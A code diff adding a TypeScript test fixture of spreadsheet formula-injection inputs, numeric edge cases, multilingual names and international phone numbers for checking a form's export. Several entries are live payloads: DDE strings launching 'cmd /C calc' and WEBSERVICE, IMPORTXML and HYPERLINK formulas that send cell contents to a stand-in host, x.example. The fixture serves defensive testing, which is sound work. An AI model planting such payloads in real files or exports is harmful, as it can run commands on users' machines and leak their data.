@@ -1,0 +1,205 @@
+/**
+ * Two hundred texts that spreadsheets have run, split, turned into numbers or garbled, and some that must only come
+ * through; and phones of many countries. For the export: as visitors may type them into any field.
+ */
+
+export interface HostileText {
+  readonly text: string
+  /**
+   * `formula` and `number`: an apostrophe may stand before it in the file, which keeps a spreadsheet from running or
+   * reckoning with it. `plain`: must stand there letter for letter.
+   */
+  readonly kind: 'formula' | 'number' | 'plain'
+}
+
+const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
+const bodies = ['1+1', 'A1', 'SUM(A1:A9)', 'HYPERLINK("http://x.example/?"&A1;"Click")', "cmd|' /C calc'!A0"]
+
+/** What does not stop every spreadsheet from seeing a formula behind it. Some the form drops, some it keeps. */
+const leads = [
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  ' ',
+  '\u00A0',
+  '\u3000',
+  '\u200B',
+  '\u200D',
+  '\uFEFF',
+  '\u200E',
+  '\u202E',
+  '\u2028',
+  '\u000B',
+  "'",
+  '"',
+  '\' "',
+]
+
+const tricks = [
+  ';=1+1',
+  ',=1+1',
+  '|=1+1',
+  'a;=1+1',
+  'a,=1+1',
+  'a\n=1+1',
+  'a\r\n=1+1',
+  'a\t=1+1',
+  '"=1+1"',
+  '",=1+1',
+  '";=1+1',
+  '",=1+1,"',
+  'a","=1+1',
+  '""=1+1',
+  'a"\r\n=1+1',
+  '=DDE("cmd";"/C calc";"x")',
+  '=WEBSERVICE("http://x.example/"&A1)',
+  '=IMPORTXML("http://x.example/?"&A1,"//a")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "=2+5+cmd|' /C calc'!A0",
+  '{=1+1}',
+  'of:=1+1',
+  'msoxl:=1+1',
+  '=1+1;=2+2',
+  '==1',
+  '=-1',
+  '+-1',
+  '--1',
+  '=',
+  '+91 98220 12345+cmd',
+  '+919822012345',
+  '+91-98220-12345',
+  '-5%',
+  '%0A=1+1',
+  '=\t1+1',
+  '= 1+1',
+  '+ 91 98220',
+  '-',
+  '@',
+  '=@SUM(A1)',
+  '="a"&"b"',
+  '﹦1+1',
+]
+
+const numbers = [
+  '007',
+  '000',
+  '098220 12345',
+  '0098220',
+  '919822012345',
+  '12345678901234567890',
+  '0.1000000000000000055511151231257827',
+  '1e5',
+  '1E400',
+  '12E3',
+  '3.50',
+  '1,234',
+  '1,23,456',
+  '1/2',
+  '1-2',
+  '24/7',
+  '12:30',
+  '2026-11-20',
+  '20/11/2026',
+  '50%',
+  '.5',
+  '5.',
+]
+
+const plain = [
+  '42',
+  '9822012345',
+  'आशा पाटील',
+  'ज्ञानेश्वर क्षीरसागर',
+  'श्रद्धा द्विवेदी',
+  'त्र्यंबक ट्विंकल',
+  'ऱ्हाटकर आणि दऱ्या',
+  'र्\u200Dहाटकर',
+  'कृष्णा विठ्ठल',
+  'अ\u200Cक्षर क्\u200Dष',
+  'अॅड. ऑनलाइन केंद्र',
+  '१२ वी पास',
+  '०१२३४५६७८९',
+  'क\u093C ख\u093C ग\u093C',
+  'ॐ साई, शिर्डी',
+  'Jose\u0301',
+  '🎉 Asha',
+  '👩\u200D👩\u200D👧 परिवार',
+  '🇮🇳 भारत',
+  'शाॅप "नंबर १"; पुणे',
+  'مرحبا بكم',
+  'שלום = 5',
+  'a\u202Eb\u202Cc',
+  'a\u200Bb',
+  'a\uFEFFb',
+  'Asha\u00A0Patil',
+  'Asha = best',
+  'C++ & C#',
+  'a@b = c',
+  "D'Souza",
+  'O’Brien',
+  'the "best" shop',
+  '3M India',
+  '24x7',
+  '100% cotton',
+  '<script>alert(1)</script>',
+  '&lt;b&gt; &amp;',
+  'one\ntwo\n\nthree',
+  'tab\tinside',
+  'two  blanks',
+  'C:\\new\\table',
+  '$100 off',
+  '#REF!',
+  'Ａｓｈａ',
+  'Patil; Sons, Ltd.',
+]
+
+export const hostileTexts: readonly HostileText[] = [
+  ...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)).map(as('formula')),
+  ...leads.flatMap((lead) => ['=1+1', '+1+1', '@SUM(A1)'].map((text) => `${lead}${text}`)).map(as('formula')),
+  ...tricks.map(as('formula')),
+  ...numbers.map(as('number')),
+  ...plain.map(as('plain')),
+]
+
+function as(kind: HostileText['kind']) {
+  return (text: string): HostileText => ({ text, kind })
+}
+
+/** As every form keeps a text: without control characters and outer blanks. */
+export function asKept(typed: string): string {
+  return typed
+    .replaceAll('\r\n', '\n')
+    .replace(/[\u0000-\u0008\u000B-\u001F\u007F\u2028\u2029]/g, '')
+    .trim()
+}
+
+/** Whether a cell says what was typed: letter for letter, or with the one guard in front where one is allowed. */
+export function saysSame(cell: string, { text, kind }: HostileText): boolean {
+  return cell === text || (kind !== 'plain' && cell === `'${text}`)
+}
+
+/** The beginnings of e-mail addresses that the form accepts and a spreadsheet would run. */
+export const hostileMailboxes = ['=', '+', '-', '=1+1+', "'=", '＝', '007', 'asha'] as const
+
+/** As typed, and as the file shows it: the same number, grouped by blanks, with its country in front. */
+export const phones: readonly (readonly [typed: string, shown: string])[] = [
+  ['+91 98220 12345', '+91 98220 12345'],
+  ['9822012345', '+91 98220 12345'],
+  ['098220 12345', '+91 98220 12345'],
+  ['९८२२० १२३४५', '+91 98220 12345'],
+  ['91-98220-12345', '+91 98220 12345'],
+  ['(020) 2553 1234', '+91 20 2553 1234'],
+  ['+1 (213) 373-4253', '+1 213 373 4253'],
+  ['+44 20 7946 0958', '+44 20 7946 0958'],
+  ['+81 3-1234-5678', '+81 3 1234 5678'],
+  ['+971 50 123 4567', '+971 50 123 4567'],
+  ['+49 30 123456', '+49 30 123456'],
+  ['+65 6123 4567', '+65 6123 4567'],
+  ['+61 2 9374 4000', '+61 2 9374 4000'],
+  ['+55 11 91234-5678', '+55 11 91234 5678'],
+  ['+86 131 2345 6789', '+86 131 2345 6789'],
+  ['+977 984-1234567', '+977 984 1234567'],
+  ['+376 312345', '+376 312 345'],
+  ['0044 20 7946 0958', '+44 20 7946 0958'],
+]
